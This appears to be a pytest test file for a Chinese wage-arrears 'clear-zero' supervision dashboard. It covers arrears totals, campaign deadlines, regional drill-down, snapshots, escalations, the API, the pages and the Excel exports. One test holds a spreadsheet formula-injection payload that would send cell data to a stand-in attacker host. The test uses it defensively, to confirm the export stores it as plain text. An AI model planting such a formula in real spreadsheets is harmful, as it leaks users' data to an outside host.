"""The clear-zero dashboard (engine/dashboard.py, engine/clear_zero*.py, the API route, the page and its Excel
exports), on cases driven through the engine services with an injected clock. Campaign defaults (engine/rules.py):
start 2020-11-01, target 1 (government-invested, SOE, PPP) by 2020-12-31, target 2 (everything else) by
2021-02-10."""

from __future__ import annotations

import io
import re
from datetime import date, timedelta
from decimal import Decimal

import jsonschema
import pytest
from flask import g
from openpyxl import load_workbook
from sqlalchemy import func, select

from engine import clear_zero, clear_zero_snapshots, dashboard, escalation, services
from engine.actors import Actor
from engine.db import db
from engine.errors import DataInvalid, Forbidden, NotFound
from engine.models import RuleSetting, Task, User
from engine.scheduler import PERIODIC_JOBS
from tests import factories
from tests.conftest import at, make_user, requires_postgres
from tests.factories import REVIEW_ACCEPT, complete, investigate_data

MONEY = re.compile(r"^\d+\.\d{2}$")
NOW = at("2020-12-11 09:00")  # a Friday
PASSWORD = "correct-horse-9"
GUIDANCE = {"guidance_date": "2020-12-02", "guidance_content": "职业规划与求职技巧指导", "counsellor": "陈静"}


def wage_arrears_intake(**overrides) -> dict:
    """The factory's intake, its arrears period ended before these complaints (from 2 Nov 2020) were received."""
    return factories.wage_arrears_intake(**{"period_from": "2020-07-01", "period_to": "2020-10-31", **overrides})


def private(name: str = "城南商住楼") -> dict:
    return {"name": name, "type": "private", "sector": "construction"}


def soe(name: str = "州水务局供水管网改造") -> dict:
    return {"name": name, "type": "soe", "sector": "construction"}


def seeker() -> dict:
    from stdnum.cn import ric

    prefix = "53230119900101002"
    return {"seeker": {"name": "杨秀英", "id_number": prefix + ric.calc_check_digit(prefix + "0"),
                       "phone": "13908781234", "priority_group": "low_income"},
            "skills": ["保洁"], "wishes": {"kinds": ["sanitation"]}}


@pytest.fixture
def people(ctx):
    return {
        "insp": Actor.of(make_user("insp_cx", ["inspector"], "532301")),
        "far": Actor.of(make_user("insp_sb", ["inspector"], "532322")),
        "sup_cx": Actor.of(make_user("sup_cx", ["supervisor"], "532301")),
        "sup_cz": Actor.of(make_user("sup_cz", ["supervisor", "head"], "532300")),
        "admin": Actor.of(make_user("admin_all", ["admin"], "")),
        "clerk": Actor.of(make_user("clerk_cx", ["clerk"], "532301")),
    }


@pytest.fixture
def cases(people):
    """Cases in three counties of Chuxiong prefecture (opened Tue 2020-12-01 unless said otherwise):
    A 532301 government-invested, paid voluntarily at investigation (verified 50,000) → cleared;
    B 532301 private, verified 60,000 for 6 workers, order issued → open;
    C 532322 SOE, claimed 30,000 for 3 workers, accepted late (review due 12-08, done 12-10) → investigating;
    D 532301 private, rejected → closed with nothing owed;
    E 532323 private, claimed 15,000 for 4 workers, not yet reviewed → received;
    F 532301 government-invested, cleared in September (10,000 recovered) → before the campaign: left out;
    T 532301 a temporary-job case whose career guidance was recorded on time (on-time rate per process)."""
    insp, far, clerk = people["insp"], people["far"], people["clerk"]
    opened = at("2020-12-01 09:00")
    a = services.open_case(insp, "wage_arrears", "532301", wage_arrears_intake(), opened)
    a = complete(insp, a, "review_complaint", REVIEW_ACCEPT, at("2020-12-01 10:00"))
    a = complete(insp, a, "investigate", investigate_data("paid_voluntarily", "50000.00", 5), at("2020-12-02 10:00"))
    b = services.open_case(insp, "wage_arrears", "532301",
                           wage_arrears_intake(project=private(), amount_owed="80000.00", workers_count=8), opened)
    b = complete(insp, b, "review_complaint", REVIEW_ACCEPT, at("2020-12-01 11:00"))
    b = complete(insp, b, "investigate", investigate_data("order", "60000.00", 6), at("2020-12-02 11:00"))
    b = complete(insp, b, "issue_order", {"payment_deadline_days": 3}, at("2020-12-03 11:00"))
    c = services.open_case(far, "wage_arrears", "532322",
                           wage_arrears_intake(project=soe(), amount_owed="30000.00", workers_count=3), opened)
    c = complete(far, c, "review_complaint", REVIEW_ACCEPT, at("2020-12-10 16:00"))
    d = services.open_case(insp, "wage_arrears", "532301",
                           wage_arrears_intake(project=private("某小区"), amount_owed="20000.00", workers_count=2),
                           opened)
    d = complete(insp, d, "review_complaint", {"decision": "reject", "reason": "已进入劳动仲裁程序"},
                 at("2020-12-01 15:00"))
    e = services.open_case(people["admin"], "wage_arrears", "532323",
                           wage_arrears_intake(project=private("牟定县城改造"), amount_owed="15000.00",
                                               workers_count=4), opened)
    f = services.open_case(insp, "wage_arrears", "532301",
                           wage_arrears_intake(amount_owed="10000.00", period_from="2020-05-01",
                                               period_to="2020-08-31"), at("2020-09-14 09:00"))
    f = complete(insp, f, "review_complaint", REVIEW_ACCEPT, at("2020-09-15 09:00"))
    f = complete(insp, f, "investigate", investigate_data("paid_voluntarily", "10000.00", 2), at("2020-09-16 09:00"))
    t = services.open_case(clerk, "temp_job", "532301", seeker(), opened)
    t = complete(clerk, t, "career_guidance", GUIDANCE, at("2020-12-02 10:00"))
    statuses = tuple(x.status for x in (a, b, c, d, e, f))
    assert statuses == ("cleared", "order_issued", "investigating", "rejected", "received", "cleared")
    return {"a": a, "b": b, "c": c, "d": d, "e": e, "f": f, "t": t}


def target(result: dict, key: str) -> dict:
    return next(t for t in result["targets"] if t["key"] == key)


def region_row(result: dict, code: str) -> dict:
    return next(r for r in result["by_region"] if r["region"] == code)


def figures(row: dict) -> tuple:
    return row["open_cases"], row["workers_owed"], row["arrears_outstanding"], row["arrears_recovered"]


# ---------------------------------------------------------------------------------------------------------------
# Figures.

def test_totals_targets_and_regions_for_the_prefecture(people, cases):
    result = dashboard.clear_zero(people["sup_cz"], NOW)
    assert result["region"] == "532300" and result["deadline"] == "2021-02-10"
    # B (6 workers, 60,000), C (3, 30,000), E (4, 15,000) open; A's 50,000 recovered; F (September) left out.
    assert figures(result) == (3, 13, "105000.00", "50000.00")

    year_end, spring = target(result, "year_end"), target(result, "spring_festival")
    assert year_end["deadline"] == "2020-12-31" and spring["deadline"] == "2021-02-10"
    assert figures(year_end) == (1, 3, "30000.00", "50000.00")  # A and C
    assert figures(spring) == (2, 10, "75000.00", "0.00")  # B, D (nothing owed) and E
    assert not year_end["met"] and not year_end["overdue"]
    # Working days from Fri 12-11 to Thu 12-31, both included: 15.
    assert year_end["days_left"] == 15 and year_end["calendar_days_left"] == 20
    # ...to Wed 2021-02-10: New Year's Day (1 Jan) is off, Sun 7 Feb is a make-up working day.
    assert spring["days_left"] == 15 + 20 + 9
    assert year_end["needed_per_working_day"] == "2000.00"
    assert spring["needed_per_working_day"] == "1704.55"  # 75,000 / 44

    # One row per county of the prefecture, known counties without cases at zero.
    codes = [r["region"] for r in result["by_region"]]
    assert codes == sorted(codes) and len(codes) == 10 and codes[0] == "532301"
    cx = region_row(result, "532301")
    assert cx["region_name"] == "楚雄市" and figures(cx) == (1, 6, "60000.00", "50000.00")
    assert figures(region_row(result, "532322")) == (1, 3, "30000.00", "0.00")
    assert figures(region_row(result, "532323")) == (1, 4, "15000.00", "0.00")
    assert figures(region_row(result, "532329")) == (0, 0, "0.00", "0.00")
    # Each region's figures per target: Chuxiong city's public-project arrears are cleared, its others are not.
    assert figures(cx["targets"]["year_end"]) == (0, 0, "0.00", "50000.00")
    assert figures(cx["targets"]["spring_festival"]) == (1, 6, "60000.00", "0.00")
    assert figures(region_row(result, "532322")["targets"]["year_end"]) == (1, 3, "30000.00", "0.00")
    assert region_row(result, "532329")["targets"]["spring_festival"]["arrears_outstanding"] == "0.00"
    # On-time per region and process: A 2, B 3, D 1, F 2 tasks on time in 532301; C's review two days late.
    assert cx["on_time"] == {"wage_arrears": {"completed": 8, "on_time": 8, "rate": 1.0},
                             "temp_job": {"completed": 1, "on_time": 1, "rate": 1.0}}
    assert region_row(result, "532322")["on_time"] == {"wage_arrears": {"completed": 1, "on_time": 0, "rate": 0.0}}
    assert region_row(result, "532323")["on_time"] == {}
    assert result["on_time"]["by_process"] == [
        {"process": "temp_job", "completed": 1, "on_time": 1, "rate": 1.0},
        {"process": "wage_arrears", "completed": 9, "on_time": 8, "rate": round(8 / 9, 4)}]
    # The same totals as the admin's national view, which groups by province, then by prefecture.
    national = dashboard.clear_zero(people["admin"], NOW)
    assert [(r["region"], r["region_name"], r["arrears_outstanding"]) for r in national["by_region"]] == [
        ("530000", "云南省", "105000.00")]
    assert national["region_name"] == "全国" and national["parent"] is None
    province = dashboard.clear_zero(people["admin"], NOW, "530000")
    assert [r["region"] for r in province["by_region"]] == ["532300"] and province["parent"] == ""


def test_drill_down_from_prefecture_to_county(people, cases):
    sup = people["sup_cz"]
    county = dashboard.clear_zero(sup, NOW, "532322")
    assert (county["region"], county["region_name"], county["parent"]) == ("532322", "双柏县", "532300")
    assert figures(county) == (1, 3, "30000.00", "0.00")
    assert [r["region"] for r in county["by_region"]] == ["532322"]  # a county has itself
    assert target(county, "spring_festival")["met"] and not target(county, "year_end")["met"]
    assert county["on_time"]["by_region"] == [{"region": "532322", "region_name": "双柏县",
                                              "process": "wage_arrears", "completed": 1, "on_time": 0, "rate": 0.0}]
    # Asking for one's own region is no drill-down: no way up.
    assert dashboard.clear_zero(sup, NOW, "532300")["parent"] is None


def test_scoping_and_bad_regions(people, cases):
    sup_cx = people["sup_cx"]
    result = dashboard.clear_zero(sup_cx, NOW)
    assert result["region"] == "532301" and result["parent"] is None
    assert figures(result) == (1, 6, "60000.00", "50000.00")
    assert [r["region"] for r in result["by_region"]] == ["532301"]
    year_end = target(result, "year_end")
    assert year_end["met"] and year_end["arrears_outstanding"] == "0.00" and year_end["needed_per_working_day"] is None
    for outside in ("532322", "532300", "530000", "110101"):
        with pytest.raises(NotFound):
            dashboard.clear_zero(sup_cx, NOW, outside)
    for bad in ("53230x", "5323", "0532301", "532301 "):
        with pytest.raises(DataInvalid) as err:
            dashboard.clear_zero(sup_cx, NOW, bad)
        assert "region" in err.value.fields
    with pytest.raises(Forbidden):
        dashboard.clear_zero(people["insp"], NOW)
    with pytest.raises(Forbidden):
        dashboard.on_time_rates(people["clerk"], NOW)
    assert [r["region"] for r in dashboard.on_time_rates(sup_cx, NOW)["by_region"]] == ["532301", "532301"]


def test_target_met_once_public_project_arrears_are_paid_and_overdue_after_the_deadline(people):
    insp, sup = people["insp"], people["sup_cx"]
    case = services.open_case(insp, "wage_arrears", "532301", wage_arrears_intake(), at("2020-12-01 09:00"))
    before = target(dashboard.clear_zero(sup, NOW), "year_end")
    assert not before["met"] and figures(before) == (1, 12, "126000.00", "0.00")
    case = complete(insp, case, "review_complaint", REVIEW_ACCEPT, at("2020-12-02 09:00"))
    complete(insp, case, "investigate", investigate_data("paid_voluntarily", "126000.00", 12), at("2020-12-03 09:00"))
    after = dashboard.clear_zero(sup, NOW)
    assert target(after, "year_end")["met"] and target(after, "spring_festival")["met"]
    assert figures(after) == (0, 0, "0.00", "126000.00")
    # Past the deadline with money still owed: overdue, no working days left.
    services.open_case(insp, "wage_arrears", "532301", wage_arrears_intake(), at("2020-12-20 09:00"))
    late = target(dashboard.clear_zero(sup, at("2021-01-04 09:00")), "year_end")
    assert late["overdue"] and not late["met"] and late["days_left"] == 0 and late["needed_per_working_day"] is None


def test_on_time_counts_only_what_was_completed_by_now(people, cases):
    early = dashboard.on_time_rates(people["sup_cz"], at("2020-12-09 09:00"))
    assert {r["process"]: (r["completed"], r["on_time"]) for r in early["by_process"]} == {
        "temp_job": (1, 1), "wage_arrears": (8, 8)}  # C's late review came on 12-10
    completed = db.session.scalar(select(func.count()).select_from(Task).where(Task.state == "completed"))
    assert completed == 10


def test_stored_on_time_counts_plus_later_tasks_equal_a_full_count(people, cases):
    sup = people["sup_cz"]
    live = dashboard.on_time_rates(sup, NOW)  # no stored counts yet: counted from every task
    clear_zero_snapshots.take_snapshot(at("2020-12-10 12:00"))  # counts up to 11:55, before C's late review at 16:00
    stored = list(db.session.scalars(select(clear_zero_snapshots.OnTimeCount)))
    assert {(r.region, r.process, r.completed, r.on_time) for r in stored} == {
        ("532301", "wage_arrears", 8, 8), ("532301", "temp_job", 1, 1)}
    assert {r.counted_until for r in stored} == {at("2020-12-10 11:55")}
    assert dashboard.on_time_rates(sup, NOW) == live  # the counts plus C's review, done after them
    assert dashboard.on_time_rates(sup, NOW, "532322")["by_process"] == [
        {"process": "wage_arrears", "completed": 1, "on_time": 0, "rate": 0.0}]
    assert dashboard.clear_zero(sup, NOW)["on_time"] == live
    # Before the counts, everything is counted live again.
    assert dashboard.on_time_rates(sup, at("2020-12-09 09:00"))["by_process"][1]["completed"] == 8
    # The page does read the stored counts (not a full count): a changed count shows.
    row = next(r for r in stored if r.process == "wage_arrears")
    row.completed += 10
    db.session.commit()
    assert dashboard.on_time_rates(sup, NOW, "532301")["by_process"][1]["completed"] == 18
    # A later recount replaces them.
    clear_zero_snapshots.take_snapshot(at("2020-12-11 20:00"))
    assert dashboard.on_time_rates(sup, NOW) == live
    assert db.session.scalar(select(func.count()).select_from(clear_zero_snapshots.OnTimeCount)) == 3


def test_campaign_deadlines_are_rules(people, cases):
    assert clear_zero.campaign() == clear_zero.Campaign(date(2020, 11, 1), date(2020, 12, 31), date(2021, 2, 10))
    db.session.add(RuleSetting(key="clear_zero_year_end_deadline", value="2020-12-25", updated_by="admin_all",
                               updated_at=NOW))
    db.session.commit()
    result = dashboard.clear_zero(people["sup_cz"], NOW)
    year_end = target(result, "year_end")
    assert year_end["deadline"] == "2020-12-25" and year_end["days_left"] == 11  # 12-11 … 12-25, both included
    assert result["campaign"]["year_end_deadline"] == "2020-12-25"
    assert next(p for p in result["by_day"] if p["date"] == "2020-12-25")["ideal_year_end"] == "0.00"



def test_a_bad_stored_rule_is_ignored_with_an_error_and_the_default_applies(people, client, caplog):
    # Typed into the table by hand (the CLI refuses it): the dashboard keeps working on the default.
    db.session.add(RuleSetting(key="campaign_start", value="next week", updated_by="admin_all", updated_at=NOW))
    db.session.commit()
    with caplog.at_level("ERROR"):
        assert clear_zero.campaign().start == date(2020, 11, 1)
        response = client.get("/api/v1/dashboard/clear-zero", headers=token(client, "sup_cz"))
    assert response.status_code == 200
    assert "campaign_start" in caplog.text and "next week" in caplog.text


# ---------------------------------------------------------------------------------------------------------------
# Snapshots and the burn-down.

def test_snapshots_on_several_days_feed_the_burndown(people):
    insp, sup = people["insp"], people["sup_cz"]
    a = services.open_case(insp, "wage_arrears", "532301", wage_arrears_intake(), at("2020-11-02 09:00"))
    services.open_case(insp, "wage_arrears", "532301",
                       wage_arrears_intake(project=private(), amount_owed="80000.00"), at("2020-11-02 10:00"))
    assert clear_zero_snapshots.take_snapshot(at("2020-11-02 20:00")) == 1
    assert clear_zero_snapshots.take_snapshot(at("2020-11-02 21:00")) == 1  # same day again: replaced, not added
    rows = list(db.session.scalars(select(clear_zero_snapshots.ClearZeroSnapshot)))
    assert len(rows) == 1
    assert (rows[0].day, rows[0].region, rows[0].open_cases, rows[0].workers_owed) == (
        date(2020, 11, 2), "532301", 2, 24)
    assert Decimal(rows[0].arrears_outstanding) == Decimal("206000.00")
    assert Decimal(rows[0].year_end_outstanding) == Decimal("126000.00")

    a = complete(insp, a, "review_complaint", REVIEW_ACCEPT, at("2020-11-03 09:00"))
    complete(insp, a, "investigate", investigate_data("paid_voluntarily", "126000.00", 12), at("2020-11-03 15:00"))
    clear_zero_snapshots.take_snapshot(at("2020-11-03 20:00"))
    services.open_case(people["far"], "wage_arrears", "532322",
                       wage_arrears_intake(project=soe(), amount_owed="30000.00"), at("2020-11-04 09:00"))
    clear_zero_snapshots.take_snapshot(at("2020-11-04 20:00"))
    assert db.session.scalar(select(func.count()).select_from(clear_zero_snapshots.ClearZeroSnapshot)) == 4

    by_day = dashboard.clear_zero(sup, at("2020-11-05 10:00"))["by_day"]
    days = {p["date"]: p for p in by_day}
    assert by_day[0]["date"] == "2020-11-01" and by_day[-1]["date"] == "2021-02-10" and len(by_day) == 102
    assert days["2020-11-01"]["arrears_outstanding"] is None and days["2020-11-01"]["ideal"] is None
    assert days["2020-11-02"]["arrears_outstanding"] == "206000.00" and days["2020-11-02"]["open_cases"] == 2
    assert days["2020-11-03"]["arrears_outstanding"] == "80000.00"
    assert days["2020-11-03"]["arrears_recovered"] == "126000.00"
    assert days["2020-11-03"]["year_end_outstanding"] == "0.00"
    assert days["2020-11-04"]["arrears_outstanding"] == "110000.00"
    assert days["2020-11-04"]["year_end_outstanding"] == "30000.00"
    assert days["2020-11-05"]["live"] and days["2020-11-05"]["arrears_outstanding"] == "110000.00"
    assert not days["2020-11-04"]["live"]
    assert days["2020-11-06"]["arrears_outstanding"] is None  # the future
    # The line needed: from the first known amount (206,000 on 11-02) straight to zero on 02-10 (100 days).
    assert days["2020-11-02"]["ideal"] == "206000.00"
    assert days["2020-11-12"]["ideal"] == "185400.00"  # 206,000 × 90 / 100
    assert days["2021-02-10"]["ideal"] == "0.00" and Decimal(days["2021-02-09"]["ideal"]) > 0
    ideals = [Decimal(p["ideal"]) for p in by_day if p["ideal"] is not None]
    assert ideals == sorted(ideals, reverse=True)
    # Target 1's line: 126,000 on 11-02 to zero on 12-31 (59 days), then zero.
    assert days["2020-11-02"]["ideal_year_end"] == "126000.00"
    assert days["2020-12-31"]["ideal_year_end"] == "0.00" and days["2021-01-15"]["ideal_year_end"] == "0.00"
    # Region scoping applies to the snapshots: a county sees its own burn-down only.
    county = {p["date"]: p for p in dashboard.clear_zero(sup, at("2020-11-05 10:00"), "532322")["by_day"]}
    assert county["2020-11-02"]["arrears_outstanding"] is None
    assert county["2020-11-04"]["arrears_outstanding"] == "30000.00"
    assert county["2020-11-04"]["ideal"] == "30000.00"  # its own line starts at its own first amount


def test_snapshot_zeroes_a_region_whose_cases_left_the_campaign(people):
    insp = people["insp"]
    case = services.open_case(insp, "wage_arrears", "532301", wage_arrears_intake(), at("2020-11-02 09:00"))
    clear_zero_snapshots.take_snapshot(at("2020-11-02 10:00"))
    case.process = "temp_job"  # as if the case were no longer a wage-arrears case
    db.session.commit()
    assert clear_zero_snapshots.take_snapshot(at("2020-11-02 20:00")) == 1
    row = db.session.scalar(select(clear_zero_snapshots.ClearZeroSnapshot))
    assert (row.open_cases, Decimal(row.arrears_outstanding)) == (0, Decimal("0"))


def test_the_scheduler_refreshes_the_snapshot_at_most_every_ten_minutes(people, cases):
    assert PERIODIC_JOBS["clear_zero_snapshot"] is clear_zero_snapshots.snapshot_job
    first = at("2020-12-11 20:00")
    assert clear_zero_snapshots.snapshot_job(first) == 3  # three county regions with campaign cases
    assert clear_zero_snapshots.snapshot_job(first + timedelta(minutes=5)) == 0
    assert clear_zero_snapshots.snapshot_job(first + timedelta(minutes=11)) == 3
    assert clear_zero_snapshots.snapshot_job(at("2020-12-12 00:01")) == 3  # a new day
    days = db.session.scalars(select(clear_zero_snapshots.ClearZeroSnapshot.day).distinct()).all()
    assert sorted(days) == [date(2020, 12, 11), date(2020, 12, 12)]


@requires_postgres()
def test_two_schedulers_snapshotting_at_once_do_not_collide(app, people, cases):
    import threading

    barrier, errors, written = threading.Barrier(2), [], []

    def run() -> None:
        with app.app_context():
            try:
                barrier.wait(timeout=10)
                written.append(clear_zero_snapshots.take_snapshot(at("2020-12-11 20:00")))
            except Exception as exc:  # noqa: BLE001 - reported below
                errors.append(exc)
            finally:
                db.session.remove()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert not errors and written == [3, 3]
    assert db.session.scalar(select(func.count()).select_from(clear_zero_snapshots.ClearZeroSnapshot)) == 3


# ---------------------------------------------------------------------------------------------------------------
# Open escalations.

@pytest.fixture
def escalated(people):
    """E2 (532323), not reviewed since Tue 12-01 (due 12-08): level 1 on 12-09, level 2 on 12-11.
    G (532301), opened Wed 12-02 (due 12-09): escalated by the 12-11 sweep."""
    e2 = services.open_case(people["admin"], "wage_arrears", "532323",
                            wage_arrears_intake(project=private()), at("2020-12-01 09:00"))
    g_case = services.open_case(people["insp"], "wage_arrears", "532301", wage_arrears_intake(),
                                at("2020-12-02 09:00"))
    for moment in (at("2020-12-09 10:00"), at("2020-12-11 10:00")):
        report = escalation.sweep(moment, render_notices=False)
        assert not report.errors, report.errors
    return e2, g_case


def test_open_escalations_once_per_task_at_its_latest_level(people, escalated):
    e2, g_case = escalated
    rows, total = dashboard.open_escalations(people["sup_cz"])
    assert total == 2 and [r["case_number"] for r in rows][0] == e2.number
    assert rows[0]["level"] == 2 and rows[0]["task_name"] == "review_complaint" and rows[0]["region_name"] == "牟定县"
    assert {r["case_number"] for r in rows} == {e2.number, g_case.number}
    mine, mine_total = dashboard.open_escalations(people["sup_cx"])
    assert mine_total == 1 and [r["case_number"] for r in mine] == [g_case.number]
    assert dashboard.open_escalations(people["sup_cz"], "532323")[1] == 1
    assert dashboard.open_escalations(people["sup_cz"], limit=1)[1] == 2
    assert len(dashboard.open_escalations(people["sup_cz"], limit=1)[0]) == 1
    # Done late: the escalations resolve; the supervision task closed by the system is not counted as case work.
    complete(people["admin"], e2, "review_complaint", REVIEW_ACCEPT, at("2020-12-11 11:00"))
    assert dashboard.open_escalations(people["sup_cz"], "532323") == ([], 0)
    rates = dashboard.on_time_rates(people["sup_cz"], at("2020-12-11 12:00"), "532323")
    assert rates["by_process"] == [{"process": "wage_arrears", "completed": 1, "on_time": 0, "rate": 0.0}]


# ---------------------------------------------------------------------------------------------------------------
# API.

def token(client, username: str) -> dict:
    response = client.post("/api/v1/auth/token", json={"username": username, "password": PASSWORD})
    assert response.status_code == 200, response.get_json()
    return {"Authorization": "Bearer " + response.get_json()["token"]}


@pytest.fixture
def clock(app):
    app.config["CLOCK"] = lambda: NOW
    yield NOW
    app.config.pop("CLOCK", None)


def test_api_shape_and_scoping(client, people, cases, clock):
    from web.api.dashboard import CLEAR_ZERO

    headers = token(client, "sup_cz")
    response = client.get("/api/v1/dashboard/clear-zero", headers=headers)
    assert response.status_code == 200 and response.mimetype == "application/json"
    body = response.get_json()
    jsonschema.validate(body, CLEAR_ZERO)  # the schema openapi.json publishes
    assert {"deadline", "open_cases", "workers_owed", "arrears_outstanding", "arrears_recovered", "by_region",
            "by_day"} <= set(body)
    assert (body["deadline"], body["region"]) == ("2021-02-10", "532300")
    assert figures(body) == (3, 13, "105000.00", "50000.00")
    assert isinstance(body["by_region"], list) and isinstance(body["by_day"], list)
    for row in body["by_region"] + body["targets"]:
        assert MONEY.match(row["arrears_outstanding"]) and MONEY.match(row["arrears_recovered"])
    assert [t["key"] for t in body["targets"]] == ["year_end", "spring_festival"]
    today = next(p for p in body["by_day"] if p["live"])
    assert (today["date"], today["arrears_outstanding"]) == ("2020-12-11", "105000.00")
    assert body == dashboard.clear_zero(people["sup_cz"], NOW)

    drill = client.get("/api/v1/dashboard/clear-zero?region=532322", headers=headers).get_json()
    assert (drill["region"], drill["arrears_outstanding"], drill["parent"]) == ("532322", "30000.00", "532300")

    county = token(client, "sup_cx")
    mine = client.get("/api/v1/dashboard/clear-zero", headers=county).get_json()
    assert (mine["region"], mine["arrears_outstanding"]) == ("532301", "60000.00")
    other = client.get("/api/v1/dashboard/clear-zero?region=532322", headers=county)
    assert other.status_code == 404 and other.get_json()["error"]["code"] == "not_found"
    bad = client.get("/api/v1/dashboard/clear-zero?region=5323", headers=county)
    assert bad.status_code == 400 and "region" in bad.get_json()["error"]["fields"]
    inspector = client.get("/api/v1/dashboard/clear-zero", headers=token(client, "insp_cx"))
    assert inspector.status_code == 403 and inspector.get_json()["error"]["code"] == "forbidden"
    assert client.get("/api/v1/dashboard/clear-zero").status_code == 401
    spec = client.get("/api/v1/openapi.json").get_json()
    operation = spec["paths"]["/dashboard/clear-zero"]["get"]
    assert {"200", "400", "401", "403", "404"} <= set(operation["responses"])


# ---------------------------------------------------------------------------------------------------------------
# Page, exports and CLI.

def sign_in(client, username: str) -> None:
    import time

    from web.auth import SIGNED_IN_AT

    user = db.session.scalar(select(User).where(User.username == username))
    with client.session_transaction() as session:  # what signing in on the pages leaves in the session
        session.clear()
        session["_user_id"] = str(user.id)
        session["_fresh"] = True
        session[SIGNED_IN_AT] = int(time.time())
    # The test's app context is reused by the client's requests: drop Flask-Login's cached user.
    g.pop("_login_user", None)


def test_page_for_a_county_supervisor(client, people, cases, clock):
    sign_in(client, "sup_cx")
    response = client.get("/dashboard")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "两清零督导看板 · 楚雄市" in html and "60,000.00" in html and "50,000.00" in html
    assert "2020-12-31" in html and "2021-02-10" in html and "已清零" in html
    assert "<svg" in html and 'class="actual"' in html and 'class="ideal"' in html
    assert "<script" not in html.split("<main", 1)[-1]  # no script needed to read the page
    assert "export.xlsx?list=regions&amp;region=532301" in html
    assert 'href="/dashboard?region=' not in html  # a county: nothing to drill into, no way up
    assert client.get("/dashboard?region=532322").status_code == 404
    bad = client.get("/dashboard?region=abc")
    assert bad.status_code == 400 and "region" in bad.get_data(as_text=True)


def test_page_drill_down_for_a_prefecture_supervisor(client, people, cases, clock):
    sign_in(client, "sup_cz")
    html = client.get("/dashboard").get_data(as_text=True)
    assert "两清零督导看板 · 楚雄彝族自治州" in html and "105,000.00" in html
    assert 'href="/dashboard?region=532322"' in html and "双柏县" in html and "返回上一级" not in html
    county = client.get("/dashboard?region=532322").get_data(as_text=True)
    assert "两清零督导看板 · 双柏县" in county and "30,000.00" in county
    assert "返回上一级" in county and 'href="/dashboard?region=532300"' in county
    assert "拖欠工资投诉按时办结率" in county and "0.0%" in county
    assert client.get("/dashboard?region=530000").status_code == 404


def test_page_before_the_campaign_and_without_cases(app, client, people):
    app.config["CLOCK"] = lambda: at("2020-10-15 09:00")
    try:
        sign_in(client, "sup_cz")
        response = client.get("/dashboard")
        html = response.get_data(as_text=True)
        assert response.status_code == 200 and "暂无数据" in html and "<polyline" not in html
        assert "暂无督办事项" in html and "暂无已办结的限时任务" in html
        body = client.get("/api/v1/dashboard/clear-zero", headers=token(client, "sup_cz")).get_json()
        assert figures(body) == (0, 0, "0.00", "0.00") and all(p["arrears_outstanding"] is None
                                                               for p in body["by_day"])
        assert all(t["met"] for t in body["targets"])
    finally:
        app.config.pop("CLOCK", None)


def test_page_refuses_inspectors_and_anonymous(client, people, cases, clock):
    sign_in(client, "insp_cx")
    for url in ("/dashboard", "/dashboard/export.xlsx", "/dashboard/export.xlsx?list=regions"):
        response = client.get(url)
        assert response.status_code == 403 and "<html" in response.get_data(as_text=True)
    with client.session_transaction() as session:
        session.clear()
    g.pop("_login_user", None)
    assert client.get("/dashboard").status_code in (302, 401)


def test_page_lists_open_escalations(client, people, escalated, clock):
    e2, _g = escalated
    sign_in(client, "sup_cz")
    html = client.get("/dashboard").get_data(as_text=True)
    assert f'href="/cases/{e2.number}"' in html and "二级督办" in html and "共 2 项" in html


def sheet_rows(response) -> dict[str, list[list]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(response.data))
    try:
        return {sheet.title: [list(r) for r in sheet.iter_rows(values_only=True)] for sheet in book.worksheets}
    finally:
        book.close()


@pytest.mark.parametrize("list_name", ["targets", "regions", "on_time", "escalations", "burndown"])
def test_excel_export_of_each_list(client, people, cases, clock, list_name):
    sign_in(client, "sup_cz")
    (rows,) = sheet_rows(client.get(f"/dashboard/export.xlsx?list={list_name}")).values()
    assert all(re.search(r"[\u4e00-\u9fff]", str(h)) for h in rows[0])  # Chinese headers
    if list_name == "targets":
        assert [r[4:8] for r in rows[1:]] == [[1, 3, 30000, 50000], [2, 10, 75000, 0], [3, 13, 105000, 50000]]
        assert rows[1][1] == "2020-12-31" and rows[1][2] == 15 and rows[1][8] == 2000
    elif list_name == "regions":
        assert len(rows) == 1 + 10 + 1
        assert rows[1][:6] == ["532301", "楚雄市", 1, 6, 60000, 50000]
        assert rows[-1][1:6] == ["合计", 3, 13, 105000, 50000]
        assert rows[1][6:8] == [0, 60000] and rows[-1][6:8] == [30000, 75000]  # per target
        assert rows[0][8:] == ["临时性岗位安置按时办结率", "拖欠工资投诉按时办结率"]
        assert rows[1][8:] == [1, 1] and next(r for r in rows if r[0] == "532322")[8:] == [None, 0]
    elif list_name == "on_time":
        assert ["532322", "双柏县", "拖欠工资投诉", 1, 0, 0] in rows
        assert [None, "合计", "拖欠工资投诉", 9, 8, round(8 / 9, 4)] in rows  # "" reads back as None
    elif list_name == "burndown":
        assert rows[1][0] == "2020-11-01" and rows[-1][0] == "2021-02-10" and len(rows) == 1 + 102
        today = next(r for r in rows if r[0] == "2020-12-11")
        assert today[1:6] == [3, 13, 105000, 30000, 50000]
    else:
        assert len(rows) == 1  # no escalations: headers only


def test_excel_export_of_everything_and_its_scope(client, people, escalated, clock):
    sign_in(client, "sup_cz")
    books = sheet_rows(client.get("/dashboard/export.xlsx"))
    assert list(books) == ["两清零目标", "分地区两清零情况", "按时办结率", "未办结督办事项", "欠薪余额燃尽表"]
    escalations = books["未办结督办事项"]
    assert len(escalations) == 3 and escalations[1][3] == "二级督办"
    county = sheet_rows(client.get("/dashboard/export.xlsx?list=escalations&region=532301"))["未办结督办事项"]
    assert len(county) == 2 and county[1][1] == "楚雄市"
    assert client.get("/dashboard/export.xlsx?list=nope").status_code == 400
    assert client.get("/dashboard/export.xlsx?region=532399x").status_code == 400
    sign_in(client, "sup_cx")
    assert client.get("/dashboard/export.xlsx?region=532323").status_code == 404


def test_excel_export_stores_text_as_text():
    from web.dashboard import workbook_bytes

    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    content = workbook_bytes([("督办", ["案件编号", "金额"], [[evil, 5]], {1: "#,##0.00"})])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (evil, "s")
    assert (sheet["B2"].value, sheet["B2"].data_type, sheet["B2"].number_format) == (5, "n", "#,##0.00")
    assert sheet["A1"].font.bold


def test_cli_snapshot(app, people, cases):
    runner = app.test_cli_runner()
